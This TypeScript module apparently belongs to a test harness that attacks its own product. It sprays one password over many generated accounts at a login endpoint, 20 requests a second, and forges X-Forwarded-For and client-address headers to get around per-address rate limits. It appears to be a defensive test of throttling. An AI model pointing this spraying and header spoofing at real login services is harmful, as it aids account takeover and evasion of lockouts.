import { setTimeout as sleep } from 'node:timers/promises';
import { ApiClient } from '../../api/api-client';
import type { Attack } from '../attack';

const perSecond = 20;

/** Sprays one wrong password over many accounts. X-Forwarded-For names many addresses; the product counts one. */
export const wrongLogins: Attack = {
  name: `logins with wrong passwords, ${perSecond} a second over many accounts and forged addresses`,
  async run(target, signal) {
    const answers: Promise<unknown>[] = [];
    for (let count = 0; !signal.aborted; count++) {
      const user = { email: `sprayed-${count}@example.com`, password: 'Winter2026!' };
      const headers = {
        'x-forwarded-for': `198.51.100.${count % 256}`,
        'x-client-address': `203.0.113.${count % 256}`,
      };
      answers.push(
        new ApiClient(target.baseUrl, null, headers)
          .ask('POST /auth/login', { body: { user }, signal })
          .catch(() => undefined),
      );
      await sleep(1_000 / perSecond);
    }
    await Promise.all(answers);
  },
};
